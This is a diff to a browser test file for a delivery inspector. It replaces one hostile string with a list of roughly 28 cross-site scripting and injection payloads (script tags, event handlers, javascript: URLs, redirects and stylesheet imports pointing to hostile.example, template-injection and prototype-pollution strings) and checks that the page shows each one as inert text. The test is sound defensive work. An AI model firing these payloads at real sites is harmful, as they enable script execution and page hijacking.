@@ -1,5 +1,6 @@
 import { execFileSync } from 'node:child_process';
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 
 import { facts } from '@plant-store/contract';
 import { afterThisFile, freePort, makeFolder } from '@plant-store/test-support';
@@ -20,7 +21,37 @@ import {
   visit,
 } from './visit.js';
 
-const HOSTILE = `<img src=x onerror="alert(1)"><script>alert(2)</script>\u202e</pre>"'&`;
+/** What would act in a page that took it for more than text. */
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror="alert(1)">',
+  '<svg onload="alert(1)"><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
+  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
+  '</code></pre></details></section></main><script>alert(1)</script>',
+  '</title></head><body onload="alert(1)">',
+  '--><script>alert(1)</script><!--',
+  ']]><script>alert(1)</script>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<a href="javascript:alert(1)">parked</a>',
+  '<base href="http://hostile.example/">',
+  '<meta http-equiv="refresh" content="0;url=http://hostile.example/">',
+  '<link rel="stylesheet" href="http://hostile.example/style.css">',
+  '<style>@import "http://hostile.example/style.css"; * { display: none }</style>',
+  '<form action="http://hostile.example/"><input autofocus onfocus="alert(1)"><button>Replay</button></form>',
+  '" autofocus onfocus="alert(1)" style="display:none" x="',
+  "' autofocus onfocus='alert(1)' style='display:none' x='",
+  '`${alert(1)}` {{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
+  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
+  '{"__proto__":{"type":"script"},"constructor":{"prototype":{"props":{"src":"http://hostile.example/"}}}}',
+  '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '<img id="rows"><form id="fault"><input id="shown" name="attributes"></form><dialog open>Sign in</dialog>',
+  'parked \u202e\u2066\u200b handled\0\u001b]0;title\u0007',
+];
 
 /** The row of a delivery. */
 const row = (page: Page, id: number): Locator =>
@@ -39,6 +70,18 @@ const open = async (page: Page, id: number): Promise<void> => {
   await page.getByRole('link', { name: String(id), exact: true }).click();
   await page.getByRole('heading', { name: `Delivery ${id}` }).waitFor();
 };
+
+/** Opens everything at a place, and finds the elements and attributes there that no template writes. */
+async function foreignIn(page: Page, { inspector }: InspectedReceiver, place: string): Promise<string[]> {
+  await page.goto(`${inspector}${place}`);
+  return page.evaluate(() => {
+    for (const details of document.querySelectorAll('details')) details.open = true;
+    const written =
+      'img, iframe, object, base, style, template, math, [http-equiv], [style], [onfocus], [onload]';
+    const elsewhere = ':is(body script, [href^="javascript"], [action^="http"], link[href^="http"])';
+    return [...document.querySelectorAll(`${written}, ${elsewhere}`)].map(({ outerHTML }) => outerHTML);
+  });
+}
 
 describeWithBrowser.each([
   { name: 'on a desktop', options: DESKTOP },
@@ -206,25 +249,30 @@ describeWithBrowser('the inspector', () => {
   });
 
   test('runs nothing of what was sent, and shows all of it as text', async () => {
-    const failed = await deliver(receiver, `throw an error ${HOSTILE}`, {
-      'x-hostile': `<img src=x onerror="alert(3)">"'</td>`,
-      'content-type': 'text/html; charset="</dd><script>alert(4)</script>"',
-    });
-    const json = await deliver(receiver, `{"t":${JSON.stringify(HOSTILE)}}`);
-    const { page } = await visit(receiver, `?delivery=${failed}`);
+    const HANDLER = join(makeFolder(), 'handler.mjs');
+    writeFileSync(HANDLER, 'export default ({ content }) => { throw new Error(String(content)); };');
+    const receiver = await startInspected({ settings: { HANDLER } });
+    for (const content of HOSTILE) {
+      const field = content.replace(/[^ -~]/g, '');
+      await deliver(receiver, content, { 'x-hostile': field, 'content-type': `text/html; a="${field}"` });
+    }
+    await untilNothingWaits(receiver.inbox);
+    const group = encodeURIComponent(`Error: ${HOSTILE[1]!}`);
+    const { page } = await visit(receiver);
+    for (const place of ['', '?view=errors', `?errorGroup=${group}&ask=discard`, '?text=onerror'])
+      expect([place, await foreignIn(page, receiver, place)]).toEqual([place, []]);
 
-    const region = page.getByRole('region', { name: 'Content' });
-    await region.getByText('throw an error').waitFor();
-    expect(await region.textContent()).toBe(`throw an error ${HOSTILE}`.replace('\u202e', '\\u{202e}'));
-    await page
-      .locator('.detail')
-      .getByText(/\d header fields/)
-      .click();
-    await page.getByRole('row', { name: `x-hostile <img src=x onerror="alert(3)">"'</td>` }).waitFor();
-    await page.getByRole('definition').getByText('<script>alert(4)</script>').waitFor();
-    await page.goto(`${receiver.inspector}?delivery=${json}`);
-    await region.getByText('"<img').waitFor();
-    expect(await page.locator('img, body script').count()).toBe(0);
+    for (const [index, content] of HOSTILE.entries()) {
+      expect([content, await foreignIn(page, receiver, `?delivery=${index + 1}&form=text`)]).toEqual([
+        content,
+        [],
+      ]);
+      const seen = content.replace(/[^ -~]/g, (unseen) => `\\u{${unseen.codePointAt(0)!.toString(16)}}`);
+      expect(await page.getByRole('region', { name: 'Content' }).textContent()).toBe(seen);
+      await page
+        .getByRole('row', { name: `x-hostile ${content.replace(/[^ -~]/g, '')}` })
+        .waitFor({ state: 'attached' });
+    }
   });
 
   test('discards a parked delivery for a reason, and keeps the reason', async () => {
@@ -453,7 +501,9 @@ describeWithBrowser('the inspector', () => {
     await discarding.getByRole('link', { name: 'Cancel' }).click();
     await page.getByRole('button', { name: 'Replay these 2…' }).click();
     await dialog.getByRole('button', { name: 'Replay 2' }).click();
-    await page.getByText('2 deliveries were replayed. handled 1, failed 1, waiting 0').waitFor();
+    await page
+      .getByText('2 deliveries were replayed. handled 1, failed 1 (1 comes again), waiting 0')
+      .waitFor();
     await page.getByRole('link', { name: /^Remove: error/ }).click();
     await page.getByRole('link', { name: 'handled 3' }).click();
     await page.getByRole('button', { name: 'Replay these 3…' }).click();
